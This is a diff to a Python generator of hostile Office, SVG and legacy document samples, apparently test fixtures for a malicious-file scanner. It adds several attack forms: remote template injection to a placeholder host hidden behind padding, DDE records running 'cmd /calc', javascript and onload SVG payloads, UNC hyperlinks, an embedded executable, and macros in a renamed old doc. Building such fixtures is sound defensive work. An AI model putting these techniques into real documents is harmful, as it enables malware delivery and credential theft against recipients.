@@ -317,6 +317,24 @@ def word_variants() -> Iterator[tuple[str, bytes]]:
         + char("end")
     )
     yield "an address made by a field", word(nested)
+    for code in (
+        ' HYPERLINK \\t "_blank" "\\\\\\\\10.1.2.3\\\\s" ',
+        ' HYPERLINK \\l "a" "javascript:alert(1)" ',
+        ' INCLUDEPICTURE \\c "gif" "http://10.1.2.3/a.gif" ',
+    ):
+        yield f"an address behind switches, {code[:20]}", word(field(code))
+    behind = " " * 3000 + relation("attachedTemplate", "http://10.1.2.3/t.dotm").partition("?>")[2]
+    yield "a template behind blanks", make.docx({"word/_rels/settings.xml.rels": behind, "word/a.bin": NOISE * 9})
+    for content in (
+        '<image href="http://10.1.2.3/a.png"/>',
+        '<a href="javascript:alert(1)"/>',
+        '<rect onload="x()"/>',
+        "<style>@import url(//10.1.2.3/a.css);</style>",
+        '<rect fill="url(http://10.1.2.3/a.svg#a)"/>',
+        '<set attributeName="href" to="javascript:x"/>',
+    ):
+        drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'
+        yield f"a drawing with {content[:24]}", typed("word/media/a.svg", "image/svg+xml", drawing)
     for where in ("word/_rels/settings.xml.RELS", "WORD/_RELS/document.xml.Rels", "x/rels.xml"):
         yield f"a template in {where}", make.docx({where: relation("attachedTemplate", "http://10.1.2.3/t.dotm")})
     yield (
@@ -751,6 +769,25 @@ def old_variants() -> Iterator[tuple[str, str, bytes]]:
     yield "xls", "a function of the web", make.xls(records=record(0x0018, bytes(14) + b"_xlfn.WEBSERVICE"))
     yield "xls", "a PDF in an object", make.xls({"MBD00001": {"CONTENTS": make.pdf()}})
     yield "xls", "controls", make.xls({"Ctls": b"x"})
+    link = record(0x01AE, struct.pack("<2HB", 1, 9, 0) + b"cmd\x03/calc")
+    yield "xls", "DDE behind empty records", make.xls(records=bytes(400) + link)
+    bound = record(0x0085, struct.pack("<LBBBB6s", 49, 0, 0, 6, 0, b"Sheet1"))
+    yield (
+        "xls",
+        "DDE in a sheet that lies elsewhere",
+        make.xls(records=bound + record(0x000A, b"") + b"\1\2\xff\x7fabc" + link),
+    )
+    for what, streams in (
+        ("DDE in a workbook", {"Workbook": link}),
+        ("a macro sheet in a workbook", {"Workbook": make.bound_sheet(1)}),
+        ("DDE in a text", word_text(dde)),
+        ("a template to fetch in a text", word_text("x", template="http://10.1.2.3/t.dot")),
+        ("a program on a click in slides", {"PowerPoint Document": bytes(900) + ppt_action(2)}),
+    ):
+        yield "doc", f"{what} in a storage", make.doc({"ObjectPool": {"_1": streams}})
+    formula = "0002CE02-0000-0000-C000-000000000046"
+    wrapped_file = {"_1": {"\x01Ole10Native": struct.pack("<L", 40) + b"\2\0a.exe\0C:\\a.exe\0"}}
+    yield "doc", "a wrapped program of another class", with_class(make.doc({"ObjectPool": wrapped_file}), "_1", formula)
 
 
 def ofd_variants() -> Iterator[tuple[str, bytes]]:
@@ -857,7 +894,7 @@ def listed() -> list[HostileFile]:
         _plain("通知.pdf .scr", "a double extension with a blank", make.pdf()),
         _plain("通知\u202efdp.exe", "a name written backwards", make.pdf()),
         _plain("压缩包.docx", "an archive under another name", make.package({"a.txt": "x"})),
-        _plain("旧.docx", "an old file under a new name", make.doc()),
+        _plain("旧.docx", "macros in an old file under a new name", make.doc({"Macros": vba})),
         _plain(
             "实体.docx",
             "entities",
